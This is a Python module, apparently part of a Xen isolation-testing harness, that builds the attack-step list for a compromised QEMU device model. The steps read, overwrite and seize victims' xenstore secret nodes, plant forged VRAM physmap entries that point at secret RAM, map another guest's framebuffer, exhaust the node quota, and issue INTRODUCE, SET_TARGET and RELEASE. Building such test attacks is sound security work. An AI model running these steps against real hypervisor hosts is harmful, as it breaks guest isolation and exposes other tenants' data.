"""The attack script one configuration's attacker runs, built from the host's layout.

Pure.  The attacker's guest is ``A``; the victims ``V1`` and ``V2``.  The order puts the
attacks that change other domains' standing (SET_TARGET, RELEASE) last.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Final

DEVICE: Final = "stdvga"
#: Seeds of each guest's screen and of its secret page (per role: A the attacker's guest).
SEEDS: Final = {"A": 0xA11CE, "V1": 0x5EED1, "V2": 0x5EED2}
SECRET_SEEDS: Final = {"A": 0x5EC0A, "V1": 0x5EC01, "V2": 0x5EC02}
#: Where each guest keeps a secret page in RAM, and what an attacker points a VRAM at.
SECRET_GPA: Final = 0x200000
#: The ram_addr of the attacker's second physmap entry: past any guest's RAM and VRAM.
DECOY_OFFSET: Final = "7f000000"
#: The RAM block name QEMU records for a VGA's VRAM (hw/display/vga.c: "vga.vram").
VRAM: Final = "vga.vram"
#: A domid no domain has, for INTRODUCE.
SCRATCH_DOMID: Final = 0x7F00
#: The nodes of the quota fill, relative to the connection's home.
FILL_DIR: Final = "device-model/{domid}/hostile"


@dataclass(frozen=True, slots=True)
class Host:
    attacker: int  # A: the compromised device model's guest
    v1: int
    v2: int
    #: The physmap offset (``phys_offset`` of the VRAM, hex) of each guest's entry.
    offset: str
    vram_size: int
    bar_addr: int
    #: The framebuffer the attacker maps: gfn and bytes.
    fb_gfn: int
    fb_bytes: int
    node_quota: int


def secret_node(domid: int) -> str:
    return f"/local/domain/{domid}/data/secret"


def steps(h: Host) -> list[dict[str, Any]]:
    secret = secret_node(h.v1)
    pages = (h.fb_bytes + 4095) // 4096
    size = f"{h.vram_size:x}"
    # The VRAM's entry now says its frames sit at the secret page; a second entry keeps the
    # BAR's address known, so that the restored device model's region_add finds it tracked
    # (xen_add_to_physmap returns early) instead of asserting.
    physmap = {
        "entries": [
            {"offset": h.offset, "start_addr": f"{SECRET_GPA:x}", "size": size, "name": VRAM},
            {"offset": DECOY_OFFSET, "start_addr": f"{h.bar_addr:x}", "size": size, "name": VRAM},
        ]
    }
    return [
        {"attack": "xs-read", "path": secret, "label": "read V1's node"},
        {"attack": "xs-write", "path": secret, "value": "pwned", "label": "write V1's node"},
        {
            "attack": "xs-set-perms",
            "path": secret,
            "perms": [f"n{h.attacker}"],
            "label": "take V1's node",
        },
        {"attack": "physmap-plant", "domid": h.v1, **physmap, "label": "plant V1's physmap"},
        {"attack": "physmap-own", "domid": h.attacker, **physmap, "label": "redirect own VRAM"},
        {
            "attack": "foreign-map",
            "domid": h.v2,
            "gfn": h.fb_gfn,
            "pages": pages,
            "bytes": h.fb_bytes,
            "label": "map V2's framebuffer",
        },
        {"attack": "watch", "path": "@introduceDomain", "label": "watch @introduceDomain"},
        {
            "attack": "quota-fill",
            "path": FILL_DIR.format(domid=h.attacker),
            "count": h.node_quota + 10,
            "label": "fill node quota",
        },
        {"attack": "introduce", "domid": SCRATCH_DOMID, "label": "INTRODUCE a domain"},
        {"attack": "set-target", "domid": h.attacker, "target": h.v2, "label": "SET_TARGET A→V2"},
        {"attack": "release", "domid": h.v2, "label": "RELEASE V2"},
    ]
